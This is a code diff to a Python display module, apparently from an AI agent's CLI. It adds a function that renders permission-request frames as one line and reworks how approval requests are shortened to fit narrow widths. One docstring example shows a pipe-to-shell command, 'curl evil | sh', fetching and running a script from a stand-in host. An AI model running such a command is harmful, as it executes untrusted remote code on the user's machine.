@@ -12,6 +12,7 @@ from __future__ import annotations
 from collections.abc import Mapping
 from typing import Any
 
+from app.core.protocol import PermissionRequest
 from app.display.agent_text import command_line, elide_middle, flat, shown
 from app.display.fit import cell_len, cut
 from app.runtime.api import Approval
@@ -50,6 +51,18 @@ def call_words(tool: str, tool_input: Mapping[str, Any] | None, width: int) -> s
     return f"{name}({elide_middle(inside, room)})"
 
 
+def asked_words(frame: PermissionRequest, width: int = 160) -> str | None:
+    """A permission request frame as the feed and the CLI name it: ``permission requested:
+    Bash(curl evil | sh) — run installer``; ``None`` when its input names nothing to run
+    (the frame's words then stand)."""
+    data = frame.input if isinstance(frame.input, dict) else {}
+    if not subject(data):
+        return None
+    if frame.description and not isinstance(data.get("description"), str):
+        data = {**data, "description": frame.description}
+    return f"permission requested: {call_words(frame.tool_name, data, width)}"
+
+
 def request_words(approval: Approval, width: int) -> str:
     """What ``approval`` asks for, without its asker: ``Bash(…)`` for a permission request
     whose input names what it runs, else its title's words (``plan approval``)."""
@@ -70,12 +83,22 @@ def request_line(approval: Approval, width: int) -> str:
     if approval.kind != "permission" or not command:
         return f"{who}: {request_words(approval, max(LEAST, width - cell_len(who) - 2))}"
     tool = flat(approval.tool_name or "permission")
-    wrap = cell_len(tool) + 2
-    if width - cell_len(who) - 2 - wrap >= LEAST:
-        return f"{who}: {call_words(tool, approval.tool_input, width - cell_len(who) - 2)}"
-    prefix, suffix = ("$ ", "") if tool == "Bash" else (f"{tool}(", ")")
+    room = width - cell_len(who) - 2
+    least = min(cell_len(who), 4)
+    shell = tool == "Bash"
+    forms = [(f"{tool}(", ")"), ("$ ", "")] if shell else [(f"{tool}(", ")")]
+    if cell_len(tool) + 2 + cell_len(command) <= room:  # whole, with room for the description
+        return f"{who}: {call_words(tool, approval.tool_input, room)}"
+    for prefix, suffix in forms:  # whole, the name shortened
+        whole = len(prefix) + cell_len(command) + len(suffix)
+        if width - 2 - least >= whole:
+            return f"{cut(who, width - 2 - whole)}: {prefix}{command}{suffix}"
+    if cell_len(tool) + 2 + LEAST <= room:  # the middle elided
+        return f"{who}: {call_words(tool, approval.tool_input, room)}"
+    # Narrower still: the name short, a shell command as "$ ...", its middle elided.
+    prefix, suffix = forms[-1]
     wrap = len(prefix) + len(suffix)
-    who = cut(who, max(4, min(cell_len(who), width - 2 - wrap - LEAST)))
+    who = cut(who, max(least, min(cell_len(who), width - 2 - wrap - LEAST)))
     room = max(5, width - cell_len(who) - 2 - wrap)
     return f"{who}: {prefix}{elide_middle(command, room)}{suffix}"
 
@@ -85,4 +108,12 @@ def rule_words(rule: str, width: int = RULE_CELLS) -> str:
     return elide_middle(command_line(rule), width)
 
 
-__all__ = ["call_words", "request_line", "request_words", "rule_words", "shown", "subject"]
+__all__ = [
+    "asked_words",
+    "call_words",
+    "request_line",
+    "request_words",
+    "rule_words",
+    "shown",
+    "subject",
+]
